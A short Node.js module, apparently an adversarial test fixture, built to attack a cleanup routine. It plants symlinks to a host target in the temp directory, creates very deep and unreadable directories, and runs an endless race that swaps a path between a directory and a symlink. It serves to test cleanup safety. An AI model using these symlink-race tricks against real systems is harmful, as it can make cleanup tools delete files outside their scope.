'use strict';
// Attacks the removal of its files: it leaves links to directories of the host, links
// that are swapped during requests, unreadable directories and deep ones.

const fs = require('node:fs');
const { tmpdir } = require('node:os');
const path = require('node:path');
const { args } = require('./attempt.cjs');

module.exports = (req, res) => {
  const tmp = tmpdir();
  const [target] = args(req);
  for (const name of ['a', 'node', 'lateen', 'sockets', '.X11-unix', 'of-the-neighbour']) fs.symlinkSync(target, path.join(tmp, name));
  let deep = tmp;
  for (let n = 0; n < 200; n++) fs.mkdirSync(deep = path.join(deep, 'deep'));
  fs.symlinkSync(target, path.join(deep, 'out'));
  fs.mkdirSync(path.join(tmp, 'closed'));
  fs.writeFileSync(path.join(tmp, 'closed', 'file'), 'x');
  fs.symlinkSync(target, path.join(tmp, 'closed', 'out'));
  fs.chmodSync(path.join(tmp, 'closed'), 0);
  const swap = () => { // alternates a directory and a link
    const name = path.join(tmp, 'swapped');
    for (let n = 0; n < 50; n++) {
      fs.mkdirSync(name);
      fs.rmdirSync(name);
      fs.symlinkSync(target, name);
      fs.unlinkSync(name);
    }
    setImmediate(swap);
  };
  swap();
  res.end('trapped');
};
